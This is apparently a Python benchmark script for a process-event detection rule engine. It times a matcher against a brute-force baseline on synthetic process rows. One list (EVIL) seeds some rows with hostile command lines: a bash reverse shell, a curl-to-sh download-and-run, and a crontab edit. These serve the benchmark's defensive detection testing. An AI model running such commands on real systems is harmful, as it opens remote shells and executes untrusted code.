"""Event rules per CPU-second: `python -m tests.bench.bench_rules [ROWS]`.

A batch of synthetic process rows against the shipped rules, and against these plus many made ones, beside the floor
(every rule asked about every row). All rows are made up: what real command lines hold may touch more literals.
"""

from __future__ import annotations

import argparse
import random
import time
from collections.abc import Callable
from typing import Any

import luytre_rules
import pyarrow as pa
from luytre_collector.detect.columnar import Batch
from luytre_collector.detect.model import RuleSet
from luytre_collector.detect.predicates import check, needed
from luytre_collector.detect.rules import load
from luytre_collector.detect.stream import Matcher
from luytre_collector.detect.tree import How, Text, columns, conj, disj
from luytre_common.schema import TABLES

from tests.support.rule_trees import batch, rule

IMAGES = ["/usr/bin/dash", "/usr/bin/bash", "/usr/bin/python3.11", "/usr/sbin/cron", "/usr/bin/curl", "/usr/bin/php8.2"]
WORDS = [
    "run",
    "--config",
    "/etc/app.toml",
    "-v",
    "backup",
    "2026-11-23",
    "--user=lan",
    "/var/lib/app",
    "check",
    "|",
    "grep",
]
EVIL = ["bash -i >& /dev/tcp/10.1.0.7/4444 0>&1", "curl -s http://203.0.113.9/x.sh | sh", "crontab -"]
LINE, IMAGE = (TABLES["processes"].column(name) for name in ("process_command_line", "process_executable"))


def rows(count: int, dice: random.Random) -> pa.Table:
    """Process rows, two in a thousand of them suspicious."""
    lines = [
        dice.choice(EVIL) if dice.random() < 0.002 else f"{' '.join(dice.choices(WORDS, k=8))} {dice.randrange(10**6)}"
        for _ in range(count)
    ]
    given = [
        {
            "event_action": "exec",
            "process_executable": dice.choice(IMAGES),
            "process_command_line": line,
            "process_args": line.split(" "),
            "user_name": dice.choice(["root", "www-data", "lan"]),
        }
        for line in lines
    ]
    return batch("processes", given)


def made(count: int, dice: random.Random) -> RuleSet:
    """The shipped rules and `count` more: an image, and any of eight literals."""
    shipped = load([luytre_rules.FOLDER])
    letters = "abcdefghijklmnopqrstuvwxyz-/"
    more = [
        rule(
            number,
            "processes",
            conj(
                [
                    Text(IMAGE, How.ENDS, dice.choice(IMAGES)[8:]),
                    disj([Text(LINE, How.CONTAINS, "".join(dice.choices(letters, k=9))) for _ in range(8)]),
                ]
            ),
        )
        for number in range(count)
    ]
    return RuleSet(events=(*shipped.events, *more))


def rate(work: Callable[[], Any], count: int, rounds: int) -> float:
    """Rows per CPU-second, the best of `rounds`."""
    best = float("inf")
    for _ in range(rounds):
        start = time.process_time()
        work()
        best = min(best, time.process_time() - start)
    return count / best


def brute_force(rules: RuleSet, table: pa.Table) -> dict[str, list[int]]:
    """Every rule about every row."""
    mine = [one for one in rules.events if one.table == "processes"]
    keys = sorted(set[tuple[str, bool]]().union(*(needed(one.tree) for one in mine)))
    batch_ = Batch(table)
    every = pa.array(range(len(batch_)))
    known = {column.name: column for one in mine for column in columns(one.tree)}
    values = list(zip(*(batch_.take(known[name], folded, every) for name, folded in keys), strict=True))
    layout = {key: at for at, key in enumerate(keys)}
    found = {
        one.head.id: [at for at, row in enumerate(values) if decide(row)]
        for one in mine
        for decide in [check(one.tree, layout)]
    }
    return {name: hits for name, hits in found.items() if hits}


def main(count: int) -> None:
    dice = random.Random(1)
    table = rows(count, dice)
    print(f"{count} rows; rows per CPU-second")
    for more in (0, 144, 300):
        compare(made(more, dice), table)


def compare(rules: RuleSet, table: pa.Table) -> None:
    """One line: the same answer, and what it costs in three ways."""
    count = table.num_rows
    matcher, kernels = Matcher(rules, time.time), Matcher(rules, time.time, prefilter=False)
    assert matcher.matches("processes", table) == brute_force(rules, table)
    fast = rate(lambda: matcher.matches("processes", table), count, 7)
    middle = rate(lambda: kernels.matches("processes", table), count, 2)
    slow = rate(lambda: brute_force(rules, table), count, 1)
    mine = sum(1 for one in rules.events if one.table == "processes" and one.alerts)
    print(f"{mine:4} rules: matcher {fast:9,.0f}   kernels only {middle:9,.0f}   every rule on every row {slow:9,.0f}")


if __name__ == "__main__":
    parser = argparse.ArgumentParser(prog="python -m tests.bench.bench_rules", description=__doc__)
    parser.add_argument("rows", type=int, nargs="?", default=10_000, help="of processes (default: 10000)")
    main(parser.parse_args().rows)
